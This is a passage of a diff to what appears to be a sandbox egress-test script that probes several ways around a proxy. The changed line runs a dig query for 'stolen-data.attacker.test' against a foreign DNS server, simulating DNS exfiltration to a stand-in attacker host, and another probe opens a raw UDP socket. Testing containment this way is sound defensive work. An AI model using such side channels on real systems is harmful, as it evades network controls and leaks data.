@@ -18,7 +18,7 @@ answer allowed http://allowed.test/
 answer elsewhere http://denied.test/
 # The six ways out. The last five do not ask the proxy at all.
 answer address-literal http://203.0.113.66/
-say foreign-dns "$(dig +tries=1 +time=2 +noall +comments +answer @8.8.8.8 stolen-data.attacker.test A 2>&1 | tr '\n\t' '  ')"
+say foreign-dns "$(dig +tries=1 +time=2 +noall +comments +answer @192.0.2.8 stolen-data.attacker.test A 2>&1 | tr '\n\t' '  ')"
 say udp-443 "$(/usr/bin/python3 -ISc '
 import socket
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
